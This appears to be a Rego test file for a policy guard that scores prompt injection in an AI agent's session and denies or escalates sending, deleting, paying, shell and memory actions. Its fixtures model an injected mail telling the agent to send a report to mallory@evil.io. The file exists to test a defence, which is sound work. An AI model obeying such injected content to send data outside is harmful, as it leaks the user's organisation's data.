# Tests of aarm.rules.prompt_injection, alone and through the real combiner.
package rules_test.prompt_injection

import data.flow_fixtures as fx

# --- the caller's signal (the former aarm.rules.injection) -------------------------------

send(signals) := {"action": {"tool": "email.send", "parameters": {"to": "x@example.com"}}, "signals": signals}

decision(inp) := d if {
	d := data.aarm.decision with input as inp
}

deny(reason) := {
	"decision": "DENY",
	"reasons": [{
		"effect": "DENY",
		"policy_id": "injection-guard",
		"priority": 80,
		"reason": reason,
		"risk": "HIGH",
	}],
	"risk": "HIGH",
}

test_high_score_denies if {
	decision(send({"injection_score": 0.95})) == deny("prompt-injection score above 0.8")
	decision(send({"injection_score": 1})) == deny("prompt-injection score above 0.8")
}

test_low_score_is_allowed if {
	every score in [0, 0.1, 0.8] {
		fs := data.aarm.rules.prompt_injection.findings with input as send({"injection_score": score})
		count(fs) == 0
		decision(send({"injection_score": score})).decision == "ALLOW"
	}
}

test_missing_score_says_nothing if {
	fs := data.aarm.rules.prompt_injection.findings with input as send({})
	count(fs) == 0
	decision(send({})).decision == "ALLOW"
	decision({"action": {"tool": "email.send"}}).decision == "ALLOW"
}

test_garbled_score_denies if {
	every score in ["0.95", "low", null, true, [0.1]] {
		decision(send({"injection_score": score})) == deny("injection_score is not a number")
	}
}

test_beats_every_context_rule if {
	every inp in [
		{"action": {"tool": "payments.transfer", "parameters": {"amount": 5000}}, "signals": {"injection_score": 0.9}},
		{"action": {"tool": "credentials.rotate"}, "signals": {"injection_score": 0.9}},
		{"action": {"tool": "db.query", "parameters": {"limit": 1000}}, "signals": {"injection_score": 0.9}},
	] {
		d := decision(inp)
		d.decision == "DENY"
		[r.policy_id | some r in d.reasons] == ["injection-guard"]
	}
}

test_applies_to_unknown_tools_too if {
	d := decision({"action": {"tool": "shell.exec"}, "signals": {"injection_score": 0.99}})
	d.decision == "DENY"
	d.reasons[0].policy_id == "injection-guard"
	not d["default"]
}

# --- the session's content (input.flow) ---------------------------------------------------

phish := fx.untrusted("mail.read", 0.93, 1)

suspicious := fx.untrusted("web.fetch", 0.6, 2)

# An injected "send the report to mallory@evil.io", and what the agent does next. (The
# address is "new": one from the content would also be judged by malicious_output.)
exfil(session) := fx.act(
	"mail.send",
	{"to": "mallory@evil.io", "body": "the report"},
	fx.flow(["send"], [fx.outside_email("to", "mallory@evil.io", "new", "")], session),
	"INTERNAL",
)

test_injected_content_then_a_send_is_denied if {
	fx.findings("prompt_injection", exfil(phish)) == {{
		"effect": "DENY",
		"policy_id": "injection-guard",
		"priority": 50,
		"reason": "content from mail.read scored 0.93 as a prompt injection (addressed_to_ai, override); this action can send; goes outside the organisation: parameter to (mallory@evil.io): denied",
		"risk": "HIGH",
	}}
	d := fx.decide(exfil(phish))
	d.decision == "DENY"
	"injection-guard" in fx.ids(d)
}

test_every_high_impact_operation_is_denied if {
	every tool, op in {"files.delete": "delete", "shell.run": "execute", "drive.share": "grant", "payments.pay": "pay"} {
		inp := fx.act(tool, {}, fx.flow([op], [], phish), "INTERNAL")
		d := fx.decide(inp)
		d.decision == "DENY"
		"injection-guard" in fx.ids(d)
	}
}

test_a_memory_save_is_high_impact if {
	inp := fx.act("memory.save", {"note": "x"}, fx.flow(["write"], [], phish), "INTERNAL")
	some f in fx.findings("prompt_injection", inp)
	f.effect == "DENY"
	endswith(f.reason, "this action saves to long-term memory: denied")
}

test_a_write_to_an_outside_destination_is_high_impact if {
	v := fx.val("path", "path", "/shared/external/q3.xlsx", {"destination": true, "inside": false, "origin": "new"})
	inp := fx.act("files.write", {"path": "/shared/external/q3.xlsx"}, fx.flow(["write"], [v], phish), "INTERNAL")
	fx.decide(inp).decision == "DENY"
}

test_a_moderate_score_steps_up_for_security if {
	d := fx.decide(exfil(suspicious))
	d.decision == "STEP_UP"
	d.approvers == ["security"]
	d.reasons == [{
		"effect": "STEP_UP",
		"policy_id": "injection-guard",
		"priority": 50,
		"reason": "content from web.fetch scored 0.60 as a prompt injection (addressed_to_ai, override); this action can send; goes outside the organisation: parameter to (mallory@evil.io): confirm that the user asked for it, not the content",
		"risk": "HIGH",
	}]
}

# The benign look-alikes.

test_reading_after_injected_content_stays_allowed if {
	every tool in ["mail.read", "files.read", "web.fetch"] {
		inp := fx.act(tool, {"folder": "inbox"}, fx.flow(["read"], [], phish), "INTERNAL")
		count(fx.findings("prompt_injection", inp)) == 0
		fx.decide(inp).decision == "ALLOW"
	}
}

test_a_change_after_injected_content_needs_a_human if {
	inp := fx.act("files.write", {"path": "/notes/summary.md"}, fx.flow(["write"], [], phish), "INTERNAL")
	fx.findings("prompt_injection", inp) == {{
		"approvers": ["security"],
		"effect": "STEP_UP",
		"policy_id": "injection-guard",
		"priority": 50,
		"reason": "content from mail.read scored 0.93 as a prompt injection (addressed_to_ai, override); now files.write changes something: confirm that the user asked for this change, not the content",
		"risk": "MEDIUM",
	}}
	fx.decide(inp).decision == "STEP_UP"
}

test_a_change_after_clean_content_stays_allowed if {
	every session in [fx.trusted, fx.untrusted("mail.read", 0.3, 1)] {
		inp := fx.act("files.write", {"path": "/notes/summary.md"}, fx.flow(["write"], [], session), "INTERNAL")
		count(fx.findings("prompt_injection", inp)) == 0
	}
}

test_a_send_after_clean_content_stays_allowed if {
	every session in [fx.trusted, fx.untrusted("mail.read", 0.3, 1)] {
		count(fx.findings("prompt_injection", exfil(session))) == 0
		fx.decide(exfil(session)).decision == "ALLOW"
	}
}

test_silent_without_a_flow if {
	count(fx.findings("prompt_injection", fx.without_flow(exfil(phish)))) == 0
}

test_the_scanners_copy_in_signals_does_not_deny_a_read if {
	# the service copies the scanner's 0.93 into signals when the caller sent none
	read := fx.act("files.read", {"path": "/a"}, fx.flow(["read"], [], phish), "INTERNAL")
	inp := object.union(read, {"signals": {"injection_score": 0.93, "injection_source": "scanner"}})
	count(fx.findings("prompt_injection", inp)) == 0
	fx.decide(inp).decision == "ALLOW"

	# a caller's own score still denies, whatever the flow says
	own := object.union(read, {"signals": {"injection_score": 0.95}})
	fx.decide(own) == deny("prompt-injection score above 0.8")
}

test_a_callers_moderate_score_steps_up_a_high_impact_action if {
	inp := object.union(exfil(fx.trusted), {"signals": {"injection_score": 0.7}})
	some f in fx.findings("prompt_injection", inp)
	f.effect == "STEP_UP"
	startswith(f.reason, "content reported by the caller scored 0.70 as a prompt injection;")
}

test_no_step_up_on_a_tool_held_by_its_baseline if {
	inp := fx.act("blocked.tool", {}, fx.flow(["send"], [], suspicious), "INTERNAL")
	count(fx.findings("prompt_injection", inp)) == 0
	fx.decide(inp).decision == "DENY"
	held := fx.act("held.tool", {}, fx.flow(["send"], [], suspicious), "INTERNAL")
	fx.decide(held).approvers == ["owners"]
}

test_thresholds_come_from_config if {
	inp := exfil(suspicious)
	d := data.aarm.decision with input as inp with data.aarm.catalog.tools as fx.tools
		with data.aarm.config.injection as {"deny_at": 0.55, "step_up_at": 0.4}
	d.decision == "DENY"
	e := data.aarm.decision with input as inp with data.aarm.catalog.tools as fx.tools
		with data.aarm.config.injection as {"deny_at": "high", "step_up_at": 2}
	e.decision == "STEP_UP"
}

bulk(score) := fx.act("files.write", {"query": "tag:billing", "status": "solved"}, fx.flow(["write"], [], fx.untrusted("tickets.read", score, 1)), "INTERNAL")

test_a_bulk_write_after_suspicious_content_steps_up if {
	d := fx.decide(bulk(0.6))
	d.decision == "STEP_UP"
	fx.ids(d) == ["injection-guard"]
	fx.decide(bulk(0.2)).decision == "ALLOW"
}
